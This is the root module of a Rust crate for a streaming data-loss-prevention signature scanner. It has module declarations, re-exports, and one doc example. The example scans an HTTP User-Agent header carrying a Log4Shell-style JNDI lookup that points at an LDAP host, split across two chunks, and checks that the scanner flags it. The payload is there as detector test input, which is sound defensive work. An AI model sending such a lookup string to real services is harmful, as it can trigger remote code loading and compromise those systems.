//! Signature packs, and the streaming scan that they compile to.
//!
//! The one idea is in `DESIGN.md`, the pack format in `packs/README.md`.
//!
//! ```
//! use dlp_patterns::{Direction, Field, RuleSet, ScanState, default_packs};
//!
//! let rules = RuleSet::compile(&default_packs()).expect("the default packs are right");
//! let (mut state, mut hits) = (ScanState::default(), Vec::new());
//! rules.begin(&mut state, Field::HttpHeaders, Direction::ToServer);
//! rules.scan(&mut state, b"User-Agent: ${jn", &mut hits)?;
//! rules.scan(&mut state, b"di:ldap://203.0.113.7/a}\r\n", &mut hits)?;
//! rules.finish(&mut state, &mut hits);
//! assert_eq!((hits[0].start, hits[0].end), (12, 19));
//! assert_eq!(rules.rule(hits[0].rule).masked(&hits[0]), "${jndi:");
//! # Ok::<(), dlp_patterns::ScanOverflow>(())
//! ```
#![deny(unsafe_code)]

mod action;
mod automaton;
mod byte_set;
mod cache;
mod compile;
pub mod condition;
mod context;
mod cost;
mod default_packs;
pub mod document;
mod examples;
mod field;
mod frequency;
mod hit;
pub mod limits;
mod mask;
mod matcher;
mod nfa;
mod pack;
mod rule;
mod rule_set;
mod scan;
mod sieve;
#[allow(unsafe_code, reason = "vector instructions read memory by pointer")]
mod simd;
pub mod validator;

pub use action::Action;
pub use cache::{CacheDir, CacheOutcome, Lookup};
pub use cost::{ContextCost, FoundBy, Remark, RuleCost};
pub use default_packs::{default_pack_texts, default_packs};
pub use examples::{Failure, Problem, Report, check_examples};
pub use field::{Direction, Field};
pub use hit::{Hit, RuleId};
pub use mask::Mask;
pub use pack::{Pack, Part, Pattern, Role, Signature};
pub use rule::Rule;
pub use rule_set::{RuleSet, RuleSetSize};
pub use scan::{BatchItem, ScanOverflow, ScanState};
pub use simd::Tier;
